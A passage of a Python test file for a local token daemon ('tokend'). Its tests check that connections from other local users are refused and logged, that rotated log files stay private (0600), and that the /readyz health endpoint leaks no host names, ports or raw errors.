    about_them = [ln for ln in log.splitlines() if f"uid {uid}" in ln or "refused a connection" in ln]
    assert len(about_them) == 1 and "refused a connection from another local user" in about_them[0], about_them[:5]
    assert "Traceback" not in log
    assert d.status()["targets"][0]["proxy"]["total"] == 0  # and none of them became a session


def test_every_log_file_is_private_after_a_rollover(tmp_path: Path, monkeypatch) -> None:
    """RotatingFileHandler opened the file anew after each rollover with the process's umask (0644 here): the
    first file was 0600, the ones after it and their backups were not."""
    import logging
    import logging.handlers

    from tokend import logs

    monkeypatch.delenv("JOURNAL_STREAM", raising=False)
    monkeypatch.setenv("TOKEND_LOG_STDERR", "0")
    root = logging.getLogger()
    saved = root.handlers[:], root.level
    old = os.umask(0o022)
    try:
        path = tmp_path / "logs" / "tokend.log"
        logs.setup(False, log_file=path)
        handler = next(h for h in root.handlers if isinstance(h, logging.handlers.RotatingFileHandler))
        for n in range(3):
            logging.getLogger("tokend.test").warning("line %d", n)
            handler.doRollover()
        logging.getLogger("tokend.test").warning("last")
        handler.close()
    finally:
        os.umask(old)
        root.handlers[:], root.level = saved[0], saved[1]
    files = sorted(path.parent.iterdir())
    assert len(files) == 4, files
    assert {f.name: stat.S_IMODE(f.stat().st_mode) for f in files} == {f.name: 0o600 for f in files}


def test_readyz_says_fixed_words_only(em: Tenant, postgres: Postgres, write_config, daemon, monkeypatch) -> None:
    """Any local user can read /readyz: it carried host names, ports and Entra's raw errors. Now config names and
    fixed words; the detail stays in `tokend status`, which only the user can ask."""
    from urllib.parse import urlparse

    monkeypatch.setenv("PGPASSFILE", "/nonexistent")
    health = free_port()
    em.emulator.refuse_connections()  # Entra unreachable: the identity's error names its address
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        busy = taken.getsockname()[1]  # the proxy's port in use: its error names the address
        d = daemon(
            write_config(
                proxy_target(em, postgres, f'["127.0.0.1:{busy}"]', f'[observe]\nlisten = "127.0.0.1:{health}"\n')
            )
        )

        def both_failed() -> dict | None:
            s = d.status()
            if not s or not s["identities"][0]["last_error"] or not (s["targets"][0]["proxy"] or {}).get("last_error"):
                return None
            return s

        status = wait_for(both_failed, timeout=60, what="the identity and the listener failing")
        code, body = http_get(f"http://127.0.0.1:{health}/readyz")
    assert code == 503, body
    assert "identity sp: " in body and "target db proxy: not listening" in body, body
    for detail in ("127.0.0.1", str(busy), str(urlparse(em.url).port), "https", "cannot"):
        assert detail not in body, (detail, body)
    assert str(busy) in status["targets"][0]["proxy"]["last_error"]  # the detail is still where the user looks
